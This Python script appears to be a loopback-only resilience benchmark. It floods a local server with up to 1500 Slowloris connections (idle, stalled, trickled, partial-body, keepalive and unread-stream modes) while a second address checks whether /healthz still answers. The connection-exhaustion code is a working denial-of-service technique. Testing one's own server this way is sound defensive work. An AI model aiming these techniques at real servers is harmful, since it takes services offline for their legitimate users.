"""Slowloris from one address against a server, while another address asks for /healthz.

    python3 bench/attacks/slowloris.py PORT MODE [SOCKETS] [TRIES]

MODE is how each of SOCKETS (default 1500) connections from 127.0.0.1 holds its slot:
  idle      connects and sends nothing
  stalled   sends part of a request head, then nothing
  trickle   sends a request head one byte a second
  body      sends a whole head announcing a body, then part of the body
  keepalive makes one whole request, then holds the connection open and idle
  stream    opens an event stream (a real session) and never reads it
Each attacker reconnects as soon as the server closes it. After 3 s, a legitimate client at
127.0.0.2 tries `GET /healthz` TRIES times (default 30), one every 0.5 s, each bounded by 1 s.
Prints one line: MODE, legitimate successes out of TRIES. Loopback only; stops by itself.
"""

import asyncio
import json
import sys
import urllib.request

PORT = int(sys.argv[1])
MODE = sys.argv[2]
SOCKETS = int(sys.argv[3]) if len(sys.argv) > 3 else 1500
TRIES = int(sys.argv[4]) if len(sys.argv) > 4 else 30
HEAD = b"GET /healthz HTTP/1.1\r\nhost: x\r\n"


def session():
    """A real session, for the stream mode."""
    request = urllib.request.Request(
        f"http://127.0.0.1:{PORT}/helo",
        data=b'{"name": "slow"}',
        headers={"content-type": "application/json"},
    )
    with urllib.request.urlopen(request, timeout=5) as answer:
        return json.load(answer)


async def hold(reader, writer, sessions):
    if MODE == "stalled":
        writer.write(HEAD)
    elif MODE == "trickle":
        for byte in HEAD:
            writer.write(bytes([byte]))
            await writer.drain()
            await asyncio.sleep(1)
    elif MODE == "body":
        writer.write(
            b"POST /helo HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\n"
            b"content-length: 100\r\n\r\n{\"na"
        )
    elif MODE == "keepalive":
        writer.write(HEAD + b"\r\n")
    elif MODE == "stream":
        s = sessions[hash(writer) % len(sessions)]
        writer.write(
            f"GET /events/{s['id']}?token={s['token']} HTTP/1.1\r\nhost: x\r\n\r\n".encode()
        )
    await writer.drain()
    if MODE == "stream":
        await asyncio.sleep(3600)  # never reads: the server's writes back up
    while await reader.read(65536):
        pass


async def attacker(stop, sessions):
    async def one():
        while not stop.is_set():
            try:
                reader, writer = await asyncio.open_connection("127.0.0.1", PORT)
                await hold(reader, writer, sessions)
                writer.close()
            except Exception:
                await asyncio.sleep(0.05)

    tasks = [asyncio.create_task(one()) for _ in range(SOCKETS)]
    await stop.wait()
    for task in tasks:
        task.cancel()


async def legitimate():
    ok = 0
    for _ in range(TRIES):
        try:
            reader, writer = await asyncio.wait_for(
                asyncio.open_connection("127.0.0.1", PORT, local_addr=("127.0.0.2", 0)), 1
            )
            writer.write(HEAD + b"connection: close\r\n\r\n")
            await writer.drain()
            data = await asyncio.wait_for(reader.read(4096), 1)
            ok += data.startswith(b"HTTP/1.1 200")
            writer.close()
        except Exception:
            pass
        await asyncio.sleep(0.5)
    return ok


async def main():
    sessions = [session() for _ in range(20)] if MODE == "stream" else []
    stop = asyncio.Event()
    attack = asyncio.create_task(attacker(stop, sessions))
    await asyncio.sleep(3)
    ok = await legitimate()
    stop.set()
    attack.cancel()
    print(f"{MODE}: legitimate /healthz {ok}/{TRIES}")


asyncio.run(asyncio.wait_for(main(), 120))
